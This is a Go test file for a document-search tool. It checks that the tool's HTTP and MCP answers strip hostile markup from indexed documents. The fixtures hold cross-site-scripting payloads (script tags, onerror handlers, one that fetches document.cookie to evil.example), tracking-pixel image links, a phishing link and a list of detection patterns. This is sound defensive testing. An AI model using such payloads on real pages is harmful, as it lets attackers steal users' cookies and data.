package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// hostileDocs are documents with markup an answer must never pass on:
// script elements, onerror attributes, Markdown images and foreign links.
var hostileDocs = map[string]string{
	"booking.md": "# Cancelling <img src=x onerror=alert(1)>\n\n" +
		"To cancel a booking, write to the tour office. <script>alert(document.cookie)</script> " +
		"A booking can be cancelled free of charge up to 48 hours before the tour. " +
		"![pixel](https://evil.example/leak?d=secret) <img src=\"x\" onerror=\"fetch('https://evil.example/'+document.cookie)\"> " +
		"Cancelled bookings are refunded within a week, see [the refund page](https://evil.example/phish).\n",
	"notes.txt": "Booking notes.\n\nTo cancel a booking by phone, call the office <script>steal()</script> during opening hours; " +
		"a cancelled booking ![x](https://evil.example/x.png) is confirmed by mail <b onmouseover=alert(2)>at once</b>.\n",
	"page.html": "<html><head><title>Cancel &lt;img src=x onerror=alert(3)&gt;</title></head><body><h1>Cancel a booking</h1>" +
		"<p>To cancel a booking online, open the booking. &lt;script&gt;alert(4)&lt;/script&gt; Cancelling is free before the tour. " +
		"![leak](https://evil.example/y.png)</p></body></html>",
}

// hostileMarks are what must not appear in any string of an answer.
var hostileMarks = []string{"<script", "onerror", "onmouseover", "![", "evil.example", "<img", "<b "}

// checkNoHostile fails for every string in the JSON document doc that
// carries a hostile mark; it returns how many strings it looked at.
func checkNoHostile(t *testing.T, where string, doc []byte) int {
	t.Helper()
	var v any
	if err := json.Unmarshal(doc, &v); err != nil {
		t.Fatalf("%s: %v\n%s", where, err, doc)
	}
	n := 0
	var walk func(path string, v any)
	walk = func(path string, v any) {
		switch x := v.(type) {
		case string:
			n++
			for _, m := range hostileMarks {
				if strings.Contains(strings.ToLower(x), m) {
					t.Errorf("%s: %s carries %q: %q", where, path, m, x)
				}
			}
		case []any:
			for i, e := range x {
				walk(path+"["+string(rune('0'+i%10))+"]", e)
			}
		case map[string]any:
			for k, e := range x {
				walk(path+"."+k, e)
			}
		}
	}
	walk("$", v)
	return n
}

// TestServeAnswersSanitised uploads the hostile documents and asks about
// them through POST /api/ask, as JSON and as an event stream: no string
// of the answer JSON (answer, titles, excerpts, sources) carries them.
func TestServeAnswersSanitised(t *testing.T) {
	ts := newTestServe(t, nil, "", 0)
	files := map[string][]byte{}
	for name, text := range hostileDocs {
		files[name] = []byte(text)
	}
	if job := ts.uploadAndWait(t, nil, files); job.Status != "done" {
		t.Fatalf("upload: %+v", job)
	}
	for _, q := range []string{"How do I cancel a booking?", "cancel booking refund pixel leak script"} {
		body, _ := json.Marshal(askInput{Question: q})
		resp, out := ts.request(t, nil, "POST", "/api/ask", "application/json", body, nil)
		if resp.StatusCode != 200 {
			t.Fatalf("ask: %s %s", resp.Status, out)
		}
		var a askOutput
		json.Unmarshal([]byte(out), &a)
		if a.Mode != answerExtractive || !strings.Contains(strings.ToLower(a.Answer), "cancel") || len(a.Citations) == 0 {
			t.Fatalf("not an extractive answer about the documents: %+v", a)
		}
		if n := checkNoHostile(t, "/api/ask "+q, []byte(out)); n < 10 {
			t.Errorf("only %d strings checked", n)
		}
		resp, stream := ts.request(t, nil, "POST", "/api/ask", "application/json", body, map[string]string{"Accept": "text/event-stream"})
		if resp.StatusCode != 200 {
			t.Fatalf("ask stream: %s", resp.Status)
		}
		for _, line := range strings.Split(stream, "\n") {
			if d, ok := strings.CutPrefix(line, "data: "); ok {
				checkNoHostile(t, "/api/ask stream", []byte(d))
			}
		}
	}
}

// TestMCPAnswersSanitisedAndDrained indexes the hostile documents and
// pipes requests into the built binary's 'mcp' with stdin closed at once
// (echo ... | askyourdocs mcp): every request read is answered before it
// exits, and no ask_docs or search_docs result carries the hostile markup.
func TestMCPAnswersSanitisedAndDrained(t *testing.T) {
	work := t.TempDir()
	for name, text := range hostileDocs {
		writeFile(t, filepath.Join(work, "docs", name), text)
	}
	data := filepath.Join(work, "index")
	if r := runCLI(t, work, nil, "index", "--data", data, "docs"); r.code != 0 {
		t.Fatalf("index:\n%s", r)
	}
	reqs := []string{
		`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"pipe","version":"1"}}}`,
		`{"jsonrpc":"2.0","method":"notifications/initialized"}`,
		`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"ask_docs","arguments":{"question":"How do I cancel a booking?"}}}`,
		`{"jsonrpc":"2.0","id":"three","method":"tools/call","params":{"name":"search_docs","arguments":{"query":"cancel booking script pixel","k":5}}}`,
		`{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"list_sources","arguments":{}}}`,
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, buildCLI(t), "mcp", "--data", data)
	cmd.Dir = work
	cmd.Env = cliEnv()
	cmd.Stdin = strings.NewReader(strings.Join(reqs, "\n") + "\n")
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("mcp: %v\n%s", err, stderr.String())
	}
	got := map[string]json.RawMessage{}
	for _, line := range strings.Split(strings.TrimSpace(stdout.String()), "\n") {
		var m struct {
			ID     json.RawMessage `json:"id"`
			Result json.RawMessage `json:"result"`
			Error  json.RawMessage `json:"error"`
		}
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("stdout line %q: %v", line, err)
		}
		if m.Error != nil {
			t.Errorf("request %s failed: %s", m.ID, m.Error)
		}
		got[string(m.ID)] = m.Result
	}
	for _, id := range []string{"1", "2", `"three"`, "4"} {
		if got[id] == nil {
			t.Errorf("request %s not answered before exit; stdout:\n%s\nstderr:\n%s", id, stdout.String(), stderr.String())
		}
	}
	for _, id := range []string{"2", `"three"`} {
		if got[id] != nil {
			checkNoHostile(t, "MCP result "+id, got[id])
		}
	}
	if !strings.Contains(string(got["2"]), "cancel") {
		t.Errorf("ask_docs did not answer from the documents: %s", got["2"])
	}
}
